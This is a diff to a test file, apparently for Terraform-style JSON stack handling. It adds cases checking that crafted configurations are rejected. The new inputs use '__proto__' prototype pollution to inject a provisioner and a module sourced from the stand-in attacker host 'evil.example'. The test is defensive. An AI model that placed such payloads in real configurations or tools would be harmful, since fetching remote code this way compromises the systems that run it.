@@ -154,6 +154,8 @@ describe("a stack with", () => {
     '{"data": [{"external": {}}]}',
     '{"resource": {"aws_sns_topic": [{"x": {"provisioner": {}}}]}}',
     "{",
+    '{"module": {"__proto__": {"source": "git::https://evil.example/x.git"}}}',
+    '{"resource": {"aws_sns_topic": {"__proto__": {"provisioner": {}}}}}',
   ])("%s is not planned", async (content) => {
     const folder = mkdtempSync(join(output, "attack-"));
     writeFileSync(join(folder, "cdk.tf.json"), content);
